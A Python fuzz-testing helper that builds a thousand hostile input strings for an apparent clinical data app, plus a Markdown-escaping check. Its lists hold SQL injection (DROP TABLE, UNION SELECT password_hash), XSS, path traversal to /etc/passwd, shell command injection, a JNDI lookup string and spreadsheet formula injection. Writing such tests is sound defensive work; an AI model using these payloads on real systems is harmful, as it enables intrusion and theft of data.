"""A thousand texts that somebody may put where a name, a value or a number is expected."""

from __future__ import annotations

import itertools
import os
import random

COUNT = 1000

_SQL = ["' OR 1=1 --", "'; DROP TABLE patient; --", '"; DELETE FROM account; --', "1; ATTACH '/etc/passwd' AS x",
        "x' UNION SELECT password_hash FROM account --", "$1", "?", ":name", "/**/", "0x27", "\\'; COPY patient TO 'x'",
        "read_text('/etc/passwd')", "pragma table_info(account)", "sex\" = \"sex", "(SELECT 1)", "') OR ('1'='1"]
_MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</div><b>", "<!--",
           "javascript:alert(1)", "[click](javascript:alert(1))", "![x](https://example.org/x.png)", ":red[x]",
           ":material/home:", "$\\href{javascript:alert(1)}{x}$", "`code`", "**bold**", "# title", "| a | b |", "~~x~~",
           "&lt;script&gt;", "<iframe src=//example.org>", "www.example.org", "https://example.org", "a@example.org",
           "<a href=x>y</a>", "{{7*7}}", "<style>*{display:none}</style>", "\"><script>", "' onmouseover='alert(1)"]
_CONTROL = [chr(code) for code in (*range(32), 127, 0x85, 0xA0, 0xAD, 0x200B, 0x200D, 0x2028, 0x2029, 0xFEFF, 0xFFFE)]
_DIRECTION = ["\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "abc\u202edef", "שלום", "مرحبا", "\u061c"]
_SIGNS = ["😀", "👩‍👩‍👧", "🇩🇪", "e\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙", "ﷺ",
          "𝔘𝔫𝔦", "ｓｅｘ", "ѕех", "İ", "ß", "ŉ", "\ud800", "\udfff", "\U0010ffff"]
_FORMATS = ["%s%s%s%n", "%x", "{0}", "{__class__}", "{self.__init__.__globals__}", "${jndi:ldap://example.org/a}",
            "${7*7}",
            "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& true", "%(message)s", "%%", "{", "}", "{}"]
_PATHS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "~root", "CON", "nul",
          "%2e%2e%2f", "....//", "\\\\host\\share", "C:\\", ".", "..", "/", "//", "/dev/stdin", "/proc/self/environ"]
_NOTHING = ["null", "None", "undefined", "nan", "NaN", "inf", "-Infinity", "true", "false", "[]", "{}", '""', "()",
            "NA", " ", "\t", "?", "!", "=", "..", "..<", "!=", ",", ",,", "a,,b", "--", "-", "--help", "-h", "@file"]
_NUMBERS = ["٣", "５", "१२", "Ⅳ", "½", "²", "1_000", "1e999", "-1", "-0", "9" * 30, "9" * 5000, "0x10", "1e3",
            "1.5", "1,5", "+1", " 1 ", "1\n", "08", "2147483648", "-2147483649", "18446744073709551616",
            "1e-400", "0..0", "5..1",
            "nan..nan", "..1e999", "1..<1"]
_FORMULAS = ["=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//example.org\")", "\t=1", "\r=1",
             "＝1+1", "=WEBSERVICE(\"//example.org\")"]
_LONG = ["x" * 100, "x" * 5_000, "<b>" * 3_000, "'" * 1_000, "(" * 2_000, "[" * 3_000, "\u0301" * 2_000, "😀" * 2_000,
         "a," * 2_000, "sex=" + "F," * 2_000, " " * 5_000, "\\" * 1_001]
_JSON = ['{"a":', "[" * 10_000, '{"not":' * 500, '{"disease":"ALL"}',
         '{"disease":"ALL","endpoint":"os","where":[null]}',
         '{"disease":"ALL","endpoint":"os","where":{"a":1}}', '{"disease":["ALL"],"endpoint":{}}', "1e999",
         "NaN", '"\\ud800"',
         '{"disease":"ALL","endpoint":"os","landmark_days":true}',
         '{"disease":"ALL","endpoint":"os","horizon_days":1e9}',
         '{"disease":"ALL","endpoint":"os","landmark_days":99999999999999999999}', '{"__proto__":{"x":1}}',
         '{"disease":"ALL","endpoint":"os","where":[{"any_of":[]}]}',
         '{"disease":"ALL","endpoint":"os","by":"patient"}',
         '{"disease":"ALL","endpoint":"os","by":"source"}', '{"disease":"ALL","endpoint":"os","by":"os_cause"}']
_NAMES = ["sex", "patient", "source", "rowid", "os_days", "record_key", "account", "sqlite_master", "__class__",
          "select"]
_EACH = (_SQL, _MARKUP, _CONTROL, _DIRECTION, _SIGNS, _FORMATS, _PATHS, _NOTHING, _NUMBERS, _FORMULAS, _LONG, _JSON,
         _NAMES)


def hostile_texts(count: int = COUNT) -> list[str]:
    """So many different texts: each family's own first, then each of them before, behind and inside another."""
    texts = dict.fromkeys(text for family in _EACH for text in family)
    short = [text for text in texts if len(text) < 200]
    rng = random.Random(1)
    joints = itertools.cycle(["{0}{1}", "{1}{0}", "sex={0}{1}", "{0},{1}", "{0}..{1}", "{0}\n{1}", "!{0}={1}"])
    while len(texts) < count:
        one, other = rng.choice(short), rng.choice(short)
        texts[next(joints).replace("{0}", one).replace("{1}", other)] = None
    return list(texts)[:count]


def some_of(texts: list[str], share: int) -> list[str]:
    """Every `share`-th text, moved on by one a round so that each family is met; all of them in a full run."""
    if "HARMONY_FUZZ_EXAMPLES" in os.environ:
        return texts
    return [text for place, text in enumerate(texts) if place % share == (place // share) % share]


# Signs that Markdown or HTML would act on, unless a backslash stands before them.
_ACTIVE = set("<>`*_[]$~|")


def is_escaped(markdown: str) -> bool:
    """Whether nothing in it would be markup, as Streamlit's Markdown reads it."""
    place = 0
    while place < len(markdown):
        if markdown[place] == "\\":
            place += 2
            continue
        if markdown[place] in _ACTIVE:
            return False
        place += 1
    return True
